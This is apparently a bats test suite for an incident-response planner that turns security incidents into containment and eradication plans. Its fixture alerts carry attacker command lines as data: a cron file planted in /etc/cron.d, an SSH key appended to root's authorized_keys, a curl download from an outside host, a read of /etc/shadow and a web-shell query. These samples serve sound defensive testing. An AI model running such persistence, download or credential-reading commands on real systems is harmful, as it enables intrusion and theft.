#!/usr/bin/env bats
# What irplan promises beyond what every filter does.

bats_require_minimum_version 1.5.0

setup() {
	BIN=${BIN:-$BATS_TEST_DIRNAME/../../build/bin}
	now=--now=2026-11-24T07:00:00Z
	cd "$BATS_TEST_TMPDIR" || return 1
}

# incident ID VERSION CLASS ADDRESS PROV [MEMBERS]
incident() {
	printf '{"ir.kind":"incident","@timestamp":"2026-11-24T06:05:01.000Z","ir.incident.id":"%s",' "$1"
	printf '"ir.version":%s,"ir.incident.class":"%s","ir.incident.title":"t","ir.severity":"high",' "$2" "$3"
	printf '"ir.entities":[{"type":"ip","value":"%s","role":"attacker","prov":"%s"}]%s}\n' "$4" "$5" "${6:-}"
}

plans() {
	"$BIN/irplan" $now "$@" | jq -c 'select(."ir.kind" == "plan")'
}

@test "blocks an observed attacker without asking, for about four hours" {
	incident i1 1 bruteforce 203.0.113.7 observed | plans >out
	[ "$(jq -r '."ir.plan.steps"[0] | .do, .target.ip, .approval, .risk, .undo' out | xargs)" = \
		"block-ip 203.0.113.7 none low unblock-ip" ]
	jq -e '."ir.plan.steps"[0].ttl | . >= 12960 and . <= 15840' out
	[ "$(jq -r '."ir.plan.expires"' out)" = 2026-11-24T07:30:00.000Z ]
}

@test "a step cites no event twice" {
	incident i1 1 bruteforce 203.0.113.7 observed \
		',"ir.alerts":[{"events":["aa","bb"]},{"events":["aa","bb","cc"]},{"events":["bb"]}]' | plans >out
	[ "$(jq -c '."ir.plan.steps"[0].events' out)" = '["aa","bb","cc"]' ]
}

@test "a claimed address, and a private one, wait for a person" {
	incident i1 1 web 203.0.113.7 claimed | plans >out
	incident i2 1 web 10.1.2.3 observed | plans >>out
	[ "$(jq -r '."ir.plan.steps"[0].approval' out | xargs)" = "one one" ]
}

@test "the hash is that of the canonical JSON" {
	incident i1 1 bruteforce 203.0.113.7 observed | plans >out
	jq -cjS '{"ir.plan.id","ir.incident.id","ir.incident.version","ir.plan.expires","ir.plan.steps"}' \
		out >canon
	[ "$(sha256sum <canon | cut -d' ' -f1)" = "$(jq -r '."ir.plan.hash"' out)" ]
}

@test "the incident passes as it came, before its plan" {
	incident i1 1 bruteforce 203.0.113.7 observed >in
	"$BIN/irplan" $now in >out
	[ "$(wc -l <out)" -eq 2 ]
	head -n 1 out | cmp - in
}

@test "the same steps make no new plan, new ones a plan that replaces" {
	{
		incident i1 1 bruteforce 203.0.113.7 observed
		incident i1 2 bruteforce 203.0.113.7 observed
		incident i1 3 bruteforce 203.0.113.8 observed
	} | plans >out
	[ "$(wc -l <out)" -eq 2 ]
	[ "$(jq -r '."ir.plan.steps"[].target.ip' out | xargs)" = "203.0.113.7 203.0.113.8" ]
	[ "$(sed -n 2p out | jq -r '."ir.plan.replaces"')" = "$(sed -n 1p out | jq -r '."ir.plan.id"')" ]
}

@test "remembers between runs with --state" {
	incident i1 1 bruteforce 203.0.113.7 observed | plans --state s >out
	[ "$(wc -l <out)" -eq 1 ]
	incident i1 2 bruteforce 203.0.113.7 observed | plans --state s >out
	[ ! -s out ]
}

@test "a repeat offender is blocked longer, within a limit" {
	for i in 1 2 3 4 5 6 7 8 9; do
		incident "i$i" 1 bruteforce 203.0.113.7 observed
	done | plans --max-ttl 1d >out
	jq -s -e '[.[]."ir.plan.steps"[0].ttl] | .[1] == .[0] * 2 or (.[1] - .[0] * 2 | fabs) < 2' out
	jq -s -e '[.[]."ir.plan.steps"[0].ttl] | max <= 86400 * 1.1' out
}

@test "plans nothing against what the site protects, and says why" {
	echo '{"monitoring":["203.0.113.7"],"cdn_proxies":["203.0.113.64/26"]}' >site.yaml
	incident i1 1 bruteforce 203.0.113.7 observed ',"ir.success":"yes"' >in
	incident i2 1 web 203.0.113.70 observed >>in
	"$BIN/irplan" $now --site site.yaml --explain in >out
	run ! grep -q '"do":"block-ip","events' out
	[ "$(jq -r '."ir.plan.steps"[]?.do' out | sort -u)" = notify ]
	jq -r '."ir.why"[0].what' out >why
	grep -q 'monitoring of the site file' why
	grep -q 'block the client there' why
}

@test "of a source that the owner knows, its owner is told" {
	echo '{"monitoring":["203.0.113.7"],"office_nat":["203.0.113.8"]}' >site.yaml
	{
		incident i1 1 bruteforce 203.0.113.7 observed
		incident i2 1 bruteforce 203.0.113.8 observed | sed 's/high/low/'
	} | plans --site site.yaml >out
	[ "$(jq -r '."ir.plan.steps"[] | .do, .target.to' out | paste -sd,)" = \
		"notify,owner of 203.0.113.7 (monitoring),notify,owner of 203.0.113.8 (office_nat)" ]
	[ "$(jq -r '."ir.plan.playbook"' out | sort -u)" = "known-source 1" ]
}

@test "a neighbour of the owner's own machines is not blocked" {
	echo '{"backup_server":["203.0.113.6"]}' >site.yaml
	incident i1 1 lateral 203.0.113.7 observed ',"ir.success":"yes"' | plans --site site.yaml >out
	run ! grep -q '"do":"block-ip","events' out
	jq -r '."ir.plan.alternatives"[].why' out | grep -q "inside the site's own network"
}

@test "plans nothing for special, protected or misspelt addresses and whole nets" {
	echo '203.0.113.0/28 # ours' >keep
	for a in 127.0.0.1 ::ffff:127.0.0.1 169.254.169.254 0177.0.0.1 127.1 0.0.0.0 224.0.0.1 203.0.113.5 \
		::ffff:203.0.113.5 2002:cb00:7105::1 64:ff9b::cb00:7105 'x"y'; do
		incident i1 1 bruteforce "${a//\"/\\\"}" observed
	done | plans --protect-file keep >out
	incident i1 1 bruteforce 203.0.112.0/20 observed | sed 's/"ip"/"cidr"/' | plans >>out
	[ ! -s out ]
}

@test "mild incidents, benign classes and merged ones make no plan" {
	{
		incident i1 1 bruteforce 203.0.113.7 observed | sed 's/high/low/'
		incident i2 1 other 203.0.113.7 observed
		incident i3 1 bruteforce 203.0.113.7 observed ',"ir.incident.state":"merged"'
	} | plans >out
	[ ! -s out ]
	incident i1 1 bruteforce 203.0.113.7 observed | sed 's/high/low/' | plans --min-severity low >out
	[ -s out ]
}

@test "accounts of a successful attack wait for a person; root is never locked" {
	{
		for u in ivan root 'a;b'; do
			printf '{"ir.kind":"alert","ir.incident.id":"i1","event.id":"e","event.category":["authentication"],'
			printf '"event.outcome":"success","user.name":"%s","host.name":"h1"}\n' "$u"
		done
		incident i1 1 bruteforce 203.0.113.7 observed ',"ir.success":"yes"'
	} | plans >out
	[ "$(jq -r '."ir.plan.steps"[] | select(.do == "lock-account") | .target.user, .on, .approval' out | xargs)" = \
		"ivan h1 one" ]
	! jq -r '."ir.plan.steps"[].target.user' out | grep ';'
}

@test "hostile text in a title stays a string" {
	incident i1 1 bruteforce 203.0.113.7 observed | sed 's/"t"/"\\u001b[2J\\"}\\n{\\"ir.kind\\":\\"plan\\""/' >in
	[ "$("$BIN/irplan" $now in | wc -l)" -eq 2 ]
	"$BIN/irplan" $now in | jq -e . >/dev/null
}

# playbook STEPS: the short form with these steps
playbook() {
	printf 'playbook: t\nsteps:\n%s\non-failure:\n  - {do: notify, with: {to: owner}}\n' "$1"
}

@test "every playbook of the toolkit has no fault, compiled neither" {
	for f in "$BATS_TEST_DIRNAME"/../../share/playbooks/*.yaml; do
		"$BIN/irplan" --lint "$f" >out
		! grep -E 'error|warning' out || return 1
		"$BIN/irplan" --compile "$f" >c.json
		"$BIN/irplan" --lint c.json >out
		! grep -E 'error|warning' out || return 1
	done
	[ "$(ls "$BATS_TEST_DIRNAME"/../../share/playbooks/*.yaml | wc -l)" -ge 12 ]
}

# alert FIELDS: a member of incident i1 on host h1
alert() {
	printf '{"ir.kind":"alert","ir.incident.id":"i1","event.id":"e1","ir.severity":"high","host.name":"h1",%s}\n' "$1"
}

# steps VERB: target and host of the steps of that verb
steps() {
	jq -c --arg v "$1" '."ir.plan.steps"[] | select(.do == $v) | [.target, .on]' out
}

won=',"ir.success":"yes","ir.attack":[{"technique":"T1059","tactic":"execution"}]'

@test "what a command left behind is removed: job, key, file" {
	{
		alert '"user.name":"ivan","process.command_line":"sh -c '"'echo x > /etc/cron.d/upd'"'"'
		alert '"user.name":"ivan","process.command_line":"sh -c '"'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINEjNSMyjC6GnFdIf0s93oWqUih/Fv4d9ENhQdVBwpFG k >> /root/.ssh/authorized_keys'"'"'
		alert '"user.name":"ivan","process.command_line":"curl -o /tmp/.x http://192.0.2.1/x"'
		alert '"user.name":"ivan","process.command_line":"echo >> /var/log/auth.log; cat /etc/shadow > /dev/null"'
		incident i1 1 bruteforce 203.0.113.7 observed "$won"
	} | plans >out
	[ "$(steps remove-persistence)" = '[{"kind":"cron","path":"/etc/cron.d/upd"},"h1"]' ]
	[ "$(steps revoke-keys)" = \
		'[{"fingerprint":"SHA256:1BcZX9A3fR0a3xneevlnXH4HycE+hYbpJTaN/+B7aHU","user":"root"},"h1"]' ]
	[ "$(steps quarantine-file)" = '[{"path":"/tmp/.x"},"h1"]' ]
}

@test "a web shell's file is found where its programs run, and only there" {
	{
		alert '"source.ip":"203.0.113.7","url.path":"/up/x.php","url.query":"c=id","threat.technique.id":"T1505","threat.technique.subtechnique.id":"T1505.003"'
		alert '"source.ip":"203.0.113.7","url.path":"/other/y.php","url.query":"c=id","threat.technique.id":"T1505","threat.technique.subtechnique.id":"T1505.003"'
		alert '"user.name":"www-data","process.working_directory":"/srv/www/up","threat.technique.id":"T1059"'
		incident i1 1 web 203.0.113.7 observed "$won"
	} | plans >out
	[ "$(steps quarantine-file)" = '[{"path":"/srv/www/up/x.php"},"h1"]' ]
	[ "$(steps call | grep -c disable-endpoint)" -eq 2 ]
}

@test "events tell what a process of the incident left, and of no other" {
	event() {
		printf '{"ir.kind":"event","event.id":"e2","host.name":"h1","process.pid":%s,"auditd.log.nametype":"CREATE","file.path":"%s"}\n' "$1" "$2"
	}
	{
		alert '"user.name":"ivan","process.pid":77,"process.executable":"/bin/sh","event.category":["process"],"event.type":["start"],"threat.tactic.id":"TA0011"'
		event 77 /opt/x
		event 78 /opt/y
		incident i1 1 malware 203.0.113.7 observed "$won"
	} | plans >out
	[ "$(steps quarantine-file)" = '[{"path":"/opt/x"},"h1"]' ]
	[ "$(steps kill-process)" = '[{"pid":77},"h1"]' ]
}

@test "accounts and keys are the attacker's only if he used them" {
	login='"event.category":["authentication"],"event.outcome":"success","event.action":"ssh_login"'
	{
		alert "$login"',"user.name":"ivan","source.ip":"203.0.113.7"'
		alert "$login"',"user.name":"carol","source.ip":"203.0.113.9","sshd.key.fingerprint":"SHA256:1BcZX9A3fR0a3xneevlnXH4HycE+hYbpJTaN/+B7aHU"'
		incident i1 1 account 203.0.113.7 observed "$won"
	} | plans >out
	[ "$(steps lock-account)" = '[{"user":"ivan"},"h1"]' ]
	[ -z "$(steps revoke-keys)" ]
}

@test "services' accounts and system files are left alone" {
	{
		alert '"user.name":"www-data","process.command_line":"cp /tmp/a /usr/bin/ls"'
		incident i1 1 web 203.0.113.7 observed "$won" |
			sed 's/"ir.entities":\[/&{"type":"user","value":"www-data","role":"victim","prov":"observed","held":true,"host":"h1"},{"type":"file","value":"\/etc\/shadow","role":"tool"},/'
	} | plans >out
	[ -z "$(steps lock-account)$(steps revoke-sessions)$(steps quarantine-file)" ]
	jq -r '."ir.plan.alternatives"[].why' out | grep -q 'a service runs as it'
}

@test "phases come in order, and a step names those before it" {
	{
		alert '"user.name":"ivan","process.command_line":"sh -c '"'echo x > /etc/cron.d/upd'"'"'
		incident i1 1 bruteforce 203.0.113.7 observed "$won" |
			sed 's/"ir.entities":\[/&{"type":"host","value":"h1","role":"victim","held":true},/'
	} | plans >out
	[ "$(jq -r '."ir.plan.steps"[].phase' out | uniq | xargs)" = "contain preserve eradicate recover" ]
	jq -e '."ir.plan.steps" | (map({key, value: .do}) | from_entries) as $do |
		.[] | select(.do == "remove-persistence").after | map($do[.]) | unique == ["collect-evidence"]' out
	jq -e '."ir.plan.steps"[] | select(.do == "isolate-host").blast | startswith("1 host")' out
}

@test "what a later version does not hold is withdrawn, and may be planned again" {
	{
		incident i1 1 bruteforce 203.0.113.7 observed
		incident i1 2 bruteforce 203.0.113.7 observed | sed 's/"role":"attacker"/"role":"unknown"/'
		incident i1 3 bruteforce 203.0.113.7 observed
		incident i1 4 bruteforce 203.0.113.7 observed | sed 's/"ir.severity":"high"/"ir.severity":"low"/'
	} | plans >out
	[ "$(jq -r '[."ir.plan.state" // "", (."ir.plan.steps" | length), (."ir.plan.withdrawn" // [] | length)] | join(" ")' out |
		paste -sd,)" = " 1 0,withdrawn 0 1, 1 0,withdrawn 0 1" ]
}

@test "what was planned for an incident is planned for the one it became part of" {
	{
		incident i1 1 bruteforce 203.0.113.7 observed
		incident i1 2 bruteforce 203.0.113.7 observed ',"ir.incident.state":"merged","ir.incident.into":"i2"'
		incident i2 1 bruteforce 203.0.113.7 observed
	} | plans >out
	[ "$(wc -l <out)" -eq 1 ]
}

@test "a playbook of one's own is chosen, replaces one of its name, and may call another" {
	mkdir books
	printf 'playbook: %s\nversion: 7\nfor: {class: [bruteforce], priority: 1}\nsteps:\n  - {playbook: extra}\n' brute-force >books/a.yaml
	printf 'on-failure:\n  - {do: notify, with: {to: owner}}\n' >>books/a.yaml
	printf 'playbook: extra\nsteps:\n  - {do: rate-limit, each: attacker_ip, with: {rate: 5/second}, risk: low, approval: none}\non-failure:\n  - {do: notify, with: {to: owner}}\n' >books/b.yaml
	incident i1 1 bruteforce 203.0.113.7 observed | plans -p books >out
	[ "$(jq -r '."ir.plan.playbook", ."ir.plan.steps"[].do' out | xargs)" = "brute-force 7 rate-limit" ]
	mkdir -p conf/ir && mv books conf/ir/playbooks
	incident i1 1 bruteforce 203.0.113.7 observed | XDG_CONFIG_HOME=$PWD/conf plans >out
	[ "$(jq -r '."ir.plan.playbook"' out)" = "brute-force 7" ]
	echo 'playbook: broken' >conf/ir/playbooks/c.yaml
	incident i1 1 bruteforce 203.0.113.7 observed >in
	XDG_CONFIG_HOME=$PWD/conf run -1 --separate-stderr "$BIN/irplan" $now in
	[[ "$stderr" == *"playbook left out"* ]]
	[ "${#lines[@]}" -eq 2 ]
}

# broken FILTER KIND: a good playbook, changed by jq, has a finding of that kind
broken() {
	jq -c "$1" good.json >bad.json
	run -1 "$BIN/irplan" --lint bad.json
	[[ "$output" == *"error: $2: "* ]]
}

@test "lint names each kind of fault" {
	playbook "  - {do: block-ip, each: attacker_ip}
  - if: \"__success__:value = 'yes'\"
    then: [{do: lock-account, each: taken_account, risk: high, approval: one}]" >p.yaml
	"$BIN/irplan" --compile p.yaml >good.json
	"$BIN/irplan" --lint good.json
	a='(.workflow | to_entries[] | select(.value.type == "action" and .value.on_completion) | .key)'
	broken '.spec_version = "1.0"' schema
	broken 'del(.created)' schema
	broken '.workflow = []' schema
	broken ".workflow_exception = \"end--00000000-0000-4000-8000-000000000000\"" reference
	broken "first($a) as \$k | .workflow[\$k].on_completion = \$k" loop
	broken '.workflow["end--00000000-0000-4000-8000-000000000000"] = {type: "end"}' unreachable
	broken '(.workflow[] | select(.condition).condition) = "the operator says so"' condition
	broken '(.workflow[] | select(.condition).condition) = "__what__:value = 1"' variable
	broken '(.. | .approval? // empty) = "none"' approval
	broken "del(.workflow_exception) | first($a) as \$k | .workflow[\$k] |=
		(.on_success = .on_completion | del(.on_completion))" failure-path
}

@test "what is no playbook is refused with the reason" {
	echo '{"type":"identity"}' >a
	echo '{"type":' >b
	echo 'steps: x' >c
	printf 'playbook: t\nsteps:\n  - {do: explode, with: {to: x}}\n' >d
	run -1 "$BIN/irplan" --lint a b c d
	[ "$(grep -c ': error: ' <<<"$output")" -ge 4 ]
	[[ "$output" == *"there is no action 'explode'"* ]]
	run -1 "$BIN/irplan" --lint /nonexistent
}

@test "simulate says which way and why, and for whom" {
	playbook "  - {do: block-ip, each: attacker_ip}
  - if: \"__success__:value = 'yes'\"
    then: [{do: isolate-host, each: compromised_host, risk: high, approval: one}]" >p.yaml
	incident i1 1 bruteforce 203.0.113.7 observed ',"ir.success":"no"' >in
	"$BIN/irplan" --simulate p.yaml in >out
	grep -q '203.0.113.7 (observed)' out
	grep -q "on_false: __success__:value = 'yes': no" out
	run ! grep isolate-host out
}

@test "a picture has every step and no markup of a name" {
	playbook '  - {do: block-ip, each: attacker_ip, name: "a\"] --> b"}' >p.yaml
	"$BIN/irplan" --graph mermaid p.yaml >out
	run ! grep -F '"] --> b' out
	"$BIN/irplan" --graph dot p.yaml | grep -q '^digraph'
}

@test "where no playbook fits, a plan is composed and waits for a person" {
	attack=',"ir.success":"yes","ir.attack":[{"technique":"T1571","tactic":"command-and-control"},{"technique":"T9999","tactic":"impact"}]'
	incident i1 1 other 203.0.113.7 observed "$attack" | plans >out
	[ "$(jq -r '."ir.plan.playbook"' out)" = composed ]
	[ "$(jq -r '."ir.plan.steps"[] | select(.do == "block-ip").approval' out)" = one ]
	jq -r '."ir.plan.steps"[0].why' out | grep -q '^D3-OTF Outbound Traffic Filtering, against T1571'
	jq -e '[."ir.plan.steps"[] | select(.do != "notify" and .do != "collect-evidence").approval] | all(. != "none")' out
}

# past GOOD BAD: so many blocks against T1110, right and wrong
past() {
	for ((i = 0; i < $1 + $2; i++)); do
		printf '{"ir.kind":"incident","ir.incident.id":"p%d","ir.attack":[{"technique":"T1110.001"}]}\n' "$i"
		printf '{"ir.kind":"action","ir.incident.id":"p%d","ir.action.key":"k","ir.action.do":"block-ip","ir.action.status":"%s"}\n' \
			"$i" "$( ((i < $1)) && echo applied || echo failed)"
	done
}

@test "past outcomes are told, and an action that failed often waits" {
	attack=',"ir.attack":[{"technique":"T1110.001","tactic":"credential-access"}]'
	past 6 2 >good
	past 2 6 >bad
	incident i1 1 bruteforce 203.0.113.7 observed "$attack" >in
	plans --history good in >out
	jq -r '."ir.plan.steps"[0].why' out | grep -q 'in the past 6 of 8 were right (expected 0.70, at least 0.47)'
	[ "$(jq -r '."ir.plan.steps"[0].approval' out)" = none ]
	plans --history bad in >out
	[ "$(jq -r '."ir.plan.steps"[0].approval' out)" = one ]
	{
		cat good
		for i in 0 1 2 3 4 5; do
			printf '{"ir.kind":"verdict","ir.incident.id":"p%d","ir.verdict.is":"false_positive"}\n' $i
		done
	} >none
	plans --history none in >out
	jq -r '."ir.plan.steps"[0].why' out | grep -q '0 of 8 were right'
	run -2 "$BIN/irplan" --history /nonexistent in
}

@test "the site's rules veto, ask and reorder" {
	cat >rules.yaml <<-'EOF'
		rules:
		  - {when: '.step.do == "block-ip" and .step.target.ip == "203.0.113.7"', then: veto, why: ours, name: partner}
		  - {when: '.step.do == "block-ip" and .ir.incident.class == "bruteforce"', then: approve-two}
		  - {when: '.step.do == "isolate-host"', then: first}
	EOF
	incident i1 1 bruteforce 203.0.113.7 observed | plans --rules rules.yaml >out
	[ ! -s out ]
	incident i1 1 bruteforce 203.0.113.8 observed "$won" |
		sed 's/"ir.entities":\[/&{"type":"host","value":"h1","role":"victim","held":true},/' |
		plans --rules rules.yaml >out
	[ "$(jq -r '."ir.plan.steps"[0].do' out)" = isolate-host ]
	[ "$(jq -r '."ir.plan.steps"[] | select(.do == "block-ip").approval' out)" = two ]
	incident i1 1 bruteforce 203.0.113.7 observed >in
	"$BIN/irplan" $now --rules rules.yaml --explain in |
		jq -r '."ir.why"[].what' | grep -q "vetoed by the site's rule 'partner': ours"
	echo 'rules: [{when: ".step.ttl | ascii_downcase == 1", then: veto}]' >odd.yaml
	plans --rules odd.yaml in >out
	[ "$(jq -r '."ir.plan.steps"[0].approval' out)" = one ]
	echo 'rules: [{when: ".step.do ==", then: veto}]' >bad.yaml
	run -2 "$BIN/irplan" --rules bad.yaml in
	echo 'rules: [{when: "true", then: explode}]' >bad.yaml
	run -2 "$BIN/irplan" --rules bad.yaml in
}

# encrypted FROM: files renamed in a session that USER opened from there
encrypted() {
	printf '{"ir.kind":"event","event.id":"e0","event.category":["session"],"host.name":"h1","process.name":"sftp-server","process.pid":20,"user.name":"carol","source.ip":"%s"}\n' "$1"
	alert '"process.name":"sftp-server","process.pid":20,"file.path":"/srv/share/a.locked","event.type":["change"],"threat.technique.id":"T1486"'
	incident i1 1 ransomware 203.0.113.99 observed "$won" | sed 's/{"type":"ip"[^}]*}/{"type":"host","value":"h1","role":"victim"}/'
}

@test "who opened the session did what was done in it: from outside an attacker, else an insider" {
	echo '{"admin_workstations":["198.51.100.0/27"]}' >site.yaml
	encrypted 203.0.113.7 | plans --site site.yaml >out
	[ "$(steps block-ip)" = '[{"ip":"203.0.113.7"},""]' ]
	[ "$(steps expire-password)" = '[{"user":"carol"},"h1"]' ]
	[ "$(steps isolate-host)$(steps restore-path)" = '[{"host":"h1"},"h1"][{"from":"backup","path":"/srv/share"},"h1"]' ]
	encrypted 198.51.100.77 | plans --site site.yaml >out
	[ -z "$(steps block-ip)" ]
	[ "$(steps lock-account)" = '[{"user":"carol"},"h1"]' ]
	printf '%s\n' '{"ir.kind":"event","event.id":"e0","event.category":["session"],"host.name":"h1","process.name":"sftp-server","process.pid":20,"user.name":"carol","source.ip":"203.0.113.7"}' >in
	alert '"process.name":"sftp-server","process.pid":21,"file.path":"/srv/share/a.locked","event.type":["change"],"threat.technique.id":"T1486"' >>in
	encrypted 203.0.113.7 | tail -n 1 >>in
	plans in >out
	[ -z "$(steps block-ip)$(steps lock-account)" ]
}

@test "what alerts showed is remembered between runs with --state" {
	{
		alert '"user.name":"ivan","process.command_line":"sh -c '"'echo x > /etc/cron.d/upd'"'"'
		incident i1 1 bruteforce 203.0.113.7 observed "$won"
	} | plans --state s >out
	[ "$(steps remove-persistence)" = '[{"kind":"cron","path":"/etc/cron.d/upd"},"h1"]' ]
	incident i1 2 bruteforce 203.0.113.8 observed "$won" | plans --state s >out
	[ "$(jq '."ir.plan.withdrawn" | length' out)" -eq 1 ]
	[ "$(steps block-ip)" = '[{"ip":"203.0.113.8"},""]' ]
}

@test "a key put into one's own file opens the account that one acts as" {
	{
		alert '"user.name":"ivan","process.command_line":"sh -c '"'echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINEjNSMyjC6GnFdIf0s93oWqUih/Fv4d9ENhQdVBwpFG k >> ~/.ssh/authorized_keys'"'"'
		alert '"user.name":"ivan","process.command_line":"cp /tmp/k /srv/x/.ssh/authorized_keys"'
		incident i1 1 bruteforce 203.0.113.7 observed "$won"
	} | plans >out
	[ "$(steps revoke-keys)" = \
		'[{"fingerprint":"SHA256:1BcZX9A3fR0a3xneevlnXH4HycE+hYbpJTaN/+B7aHU","user":"ivan"},"h1"]' ]
}

@test "a playbook's switch, while, parallel and variables decide what is planned" {
	cat >p.yaml <<-'EOF'
		playbook: ways
		for: {class: [dos], priority: 1}
		variables: {level: "3"}
		steps:
		  - switch: "__class__:value"
		    cases:
		      web: [{do: notify, with: {to: never}}]
		      dos: [{do: notify, with: {to: dos}}]
		      default: [{do: notify, with: {to: never}}]
		  - while: "__level__:value = '3'"
		    steps: [{do: notify, with: {to: round}}]
		  - parallel: [[{do: notify, with: {to: left}}], [{do: notify, with: {to: right}}]]
		  - if: "[ipv4-addr:value ISSUBSET '203.0.113.0/24']"
		    then: [{do: notify, with: {to: net}}]
		    else: [{do: notify, with: {to: never}}]
		  - {ask: call the provider}
		on-failure: [{do: notify, with: {to: owner}}]
	EOF
	incident i1 1 dos 203.0.113.7 observed | plans -p p.yaml >out
	[ "$(jq -r '."ir.plan.steps"[].target.to' out | xargs)" = "dos round left right net" ]
	jq -r '."ir.plan.alternatives"[] | select(.do == "manual") | .target, .why' out | xargs |
		grep -q 'call the provider not a verb of ours: a person does it'
}

@test "the host behind a pivot's address is taken off, one in several networks is not" {
	echo '{"hosts":{"app1":"198.51.100.20","gw1":"198.51.100.1 / 203.0.113.1"}}' >site.yaml
	incident i1 1 malware 203.0.113.7 observed "$won" |
		sed 's/"ir.entities":\[/&{"type":"ip","value":"198.51.100.20","role":"pivot","prov":"claimed"},{"type":"ip","value":"198.51.100.1","role":"pivot","prov":"claimed"},/' |
		plans --site site.yaml >out
	[ "$(steps isolate-host)" = '[{"host":"app1"},"app1"]' ]
	jq -e '."ir.plan.steps"[] | select(.do == "isolate-host").blast | startswith("1 of 2 hosts of the site")' out
	jq -r '."ir.plan.alternatives"[] | select(.target == "gw1").why' out | grep -q 'several networks'
}
